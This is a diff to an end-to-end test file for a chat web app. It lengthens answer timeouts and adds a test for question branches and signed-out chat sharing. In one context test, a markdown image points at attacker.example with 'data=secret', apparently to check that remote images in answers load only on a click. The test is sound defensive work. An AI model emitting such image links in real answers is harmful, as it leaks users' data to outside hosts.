@@ -72,7 +72,7 @@ test('stream, stop, delete, export as PNG and switch groups', async ({ page, req
   await input.fill('First question about tables');
   await input.press('Enter');
   const answers = page.locator('[data-testid="chat-message"][data-role="assistant"]');
-  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   await expect(answers.last()).toContainText('A formula');
   await expect(answers.last().locator('.katex').first()).toBeVisible();
   const seen = await lengths();
@@ -144,7 +144,7 @@ test('stream, stop, delete, export as PNG and switch groups', async ({ page, req
   await expect(page.getByTestId('chat-empty')).toBeVisible();
   await input.fill('Other topic entirely');
   await input.press('Enter');
-  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   await expect(page.getByTestId('chat-group')).toHaveCount(2);
   const messages = page.getByTestId('chat-messages');
   await expect(messages).toContainText('Other topic entirely');
@@ -196,7 +196,7 @@ test('a chat from an app: fixed-role hint, and the app’s system prompt is used
   expect(body.systemMessage).toBeUndefined();
 
   const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
-  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   await expect(answer).toContainText('Persona in use: Translator');
   await expect(answer).toContainText(app.systemPrompt.slice(0, 30));
 
@@ -232,7 +232,7 @@ test('a picture of another site in an answer loads only on a click, through the 
   await input.fill('![leak](https://attacker.example/x.png?data=secret)');
   await input.press('Enter');
   const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
-  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   const button = answer.getByTestId('remote-image');
   await expect(button).toContainText('Show the picture from attacker.example');
   await expect(answer.locator('img')).toHaveCount(0);
@@ -245,4 +245,66 @@ test('a picture of another site in an answer loads only on a click, through the 
   // The test machine reaches no such site: the proxy says so, and the page stays whole.
   await expect(button).toContainText('cannot be shown');
   expect(direct).toEqual([]);
+});
+
+test('edit a question, switch between its branches, and share the chat signed out', async ({
+  page,
+  browser,
+  request,
+}) => {
+  test.setTimeout(180_000);
+  const user = await registerUser(request, 'br');
+  await open(page, user.token, '/Chat');
+  const input = page.getByTestId('chat-input');
+  await input.fill('Tell me about owls');
+  await input.press('Enter');
+  const question = page.locator('[data-testid="chat-message"][data-role="user"]');
+  const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]');
+  await expect(answer.last()).toHaveAttribute('data-state', 'done', { timeout: 20_000 });
+
+  // Edit the question and send it again: the first answer stays as a branch, 1/2 and 2/2.
+  await question.first().hover();
+  await question.first().getByRole('button', { name: 'Edit' }).click();
+  await page.getByRole('textbox', { name: 'Edit the question' }).fill('Tell me about ravens');
+  await question.first().getByRole('button', { name: 'Send' }).click();
+  await expect(answer.last()).toHaveAttribute('data-state', 'done', { timeout: 20_000 });
+  await expect(question).toHaveCount(1);
+  await expect(question.first()).toContainText('Tell me about ravens');
+  const labels = page.getByTestId('chat-branch-label');
+  // On the question and on its answer.
+  await expect(labels).toHaveText(['2/2', '2/2']);
+
+  await question.first().hover();
+  await question.first().getByRole('button', { name: 'Previous branch' }).click();
+  await expect(question.first()).toContainText('Tell me about owls');
+  await expect(labels).toHaveText(['1/2', '1/2']);
+
+  // Share the branch on screen, and open the link signed out.
+  await page.getByRole('button', { name: 'Share' }).click();
+  await page.getByRole('button', { name: 'Create a link' }).click();
+  const link = await page.getByTestId('chat-share-link').inputValue();
+  expect(link).toMatch(/\/c\/[A-Za-z0-9_-]{24}$/);
+  await expect(page.getByTestId('chat-share-list')).toContainText('Tell me about owls');
+
+  const visitor = await browser.newContext();
+  try {
+    const shared = await visitor.newPage();
+    const scripts: string[] = [];
+    shared.on('request', (r) => {
+      if (r.resourceType() === 'script') scripts.push(r.url());
+    });
+    const res = await shared.goto(link);
+    expect(res?.status()).toBe(200);
+    await expect(shared.locator('h1')).toHaveText('Tell me about owls');
+    await expect(shared.locator('[data-role="user"]')).toHaveText(['Tell me about owls']);
+    await expect(shared.locator('body')).not.toContainText('ravens');
+    await expect(shared.locator('meta[property="og:title"]')).toHaveAttribute(
+      'content',
+      'Tell me about owls',
+    );
+    // A light page: no script at all, so no chat bundle.
+    expect(scripts).toEqual([]);
+  } finally {
+    await visitor.close();
+  }
 });
